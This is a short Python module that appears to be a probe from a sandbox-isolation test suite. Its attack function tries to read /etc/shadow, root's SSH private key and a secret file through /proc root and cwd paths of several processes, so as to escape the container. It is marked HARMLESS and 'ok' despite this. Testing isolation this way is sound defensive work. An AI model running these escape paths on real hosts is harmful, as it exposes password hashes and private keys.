"""Reads a file of the host by every path that might lead to it."""

import os
from typing import Any

HARMLESS = True
STATUS = "ok"


def attack(world: Any) -> list[str]:
    """Through the roots and folders of every process, and through open directories."""
    doors = ["", "/..", "/proc/self/root", "/proc/self/cwd/../../../../.."]
    doors += [f"/proc/{pid}/{door}" for pid in (1, os.getppid()) for door in ("root", "cwd/../../../../..")]
    found: set[str] = set()
    for door in doors:
        names = (f"{world.place}/secret.txt", "/etc/shadow", "/root/.ssh/id_rsa")
        for name in names if world.apart else names[:1]:
            try:
                with open(door + name, "rb") as file:
                    found.update(world.secrets(file.read()) or [f"{name} can be read"])
            except OSError:
                continue
    return sorted(found)
